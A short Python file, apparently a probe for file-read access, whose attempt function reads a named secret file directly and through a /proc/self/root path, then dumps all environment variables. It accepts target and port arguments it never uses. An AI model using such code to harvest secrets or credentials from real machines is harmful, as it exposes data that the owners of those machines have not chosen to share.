"""Read a file of the machine the way Python programs do."""

import os
import pathlib


def attempt(secret, target, port):
    found = []
    for read in (lambda: open(secret).read(), lambda: pathlib.Path("/proc/self/root" + secret).read_text()):
        try:
            found.append(read())
        except OSError:
            continue
    found.append(str(dict(os.environ)))
    return found
